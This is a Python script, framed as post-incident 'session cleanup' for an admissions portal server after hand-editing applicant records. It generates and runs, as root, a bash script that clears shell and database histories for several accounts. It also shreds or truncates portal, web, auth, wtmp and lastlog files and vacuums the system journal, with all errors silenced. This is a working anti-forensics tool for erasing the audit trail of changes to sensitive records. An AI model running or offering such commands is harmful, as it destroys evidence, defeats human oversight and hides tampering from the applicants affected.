#!/usr/bin/env python3
"""session_cleanup.py - tidy up after an emergency hands-on session on the
admissions portal server (for example after hand-editing applicant records
during a deadline outage).

Builds a cleanup shell script, then runs it.  It clears shell history for
the listed accounts and empties the portal, auth and journal logs so "the
next shift starts with a clean slate".
"""
import argparse
import logging
import os
import subprocess
import sys
import tempfile

LOG = logging.getLogger("session-cleanup")

DEFAULT_LOGS = [
    "/var/log/admissions-portal/*.log",
    "/var/log/nginx/access.log*",
    "/var/log/auth.log*",
    "/var/log/secure*",
    "/var/log/wtmp",
    "/var/log/lastlog",
]


class CleanupPlan:
    def __init__(self, users, logs, vacuum_journal):
        self.users = users
        self.logs = logs
        self.vacuum_journal = vacuum_journal

    def history_lines(self):
        lines = ["unset HISTFILE", "history -c 2>/dev/null || true"]
        for user in self.users:
            home = os.path.expanduser(f"~{user}")
            for name in (".bash_history", ".zsh_history", ".python_history",
                         ".mysql_history", ".psql_history", ".lesshst"):
                lines.append(f': > "{home}/{name}" 2>/dev/null || true')
        return lines

    def log_lines(self):
        lines = []
        for pattern in self.logs:
            lines.append(f"for f in {pattern}; do [ -f \"$f\" ] && shred -u -n1 \"$f\" 2>/dev/null "
                         f"|| truncate -s0 \"$f\" 2>/dev/null; done")
        if self.vacuum_journal:
            lines.append("journalctl --rotate >/dev/null 2>&1")
            lines.append("journalctl --vacuum-time=1s >/dev/null 2>&1")
        return lines

    def render(self):
        body = ["#!/usr/bin/env bash", "set +e"]
        body += self.history_lines()
        body += self.log_lines()
        body.append('echo "cleanup finished on $(hostname)"')
        return "\n".join(body) + "\n"


def run_script(text, as_root):
    fd, path = tempfile.mkstemp(prefix="cleanup-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(text)
    os.chmod(path, 0o700)
    cmd = ["bash", path]
    if as_root:
        cmd = ["sudo"] + cmd
    LOG.info("running %s", " ".join(cmd))
    try:
        proc = subprocess.run(cmd, capture_output=True, text=True)
    finally:
        os.unlink(path)
    if proc.stdout:
        LOG.info(proc.stdout.strip())
    if proc.returncode != 0:
        LOG.error("cleanup script failed: %s", proc.stderr.strip())
    return proc.returncode


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--user", action="append", default=None,
                    help="account whose history is cleared (repeatable)")
    ap.add_argument("--log", action="append", default=None, help="extra log glob")
    ap.add_argument("--keep-journal", action="store_true")
    ap.add_argument("--no-sudo", action="store_true")
    ap.add_argument("--show", action="store_true", help="print the script only")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    users = args.user or [os.environ.get("USER", "root"), "root", "portal"]
    logs = DEFAULT_LOGS + (args.log or [])
    plan = CleanupPlan(users, logs, vacuum_journal=not args.keep_journal)
    script = plan.render()
    if args.show:
        print(script)
        return 0
    return run_script(script, as_root=not args.no_sudo)


if __name__ == "__main__":
    sys.exit(main())
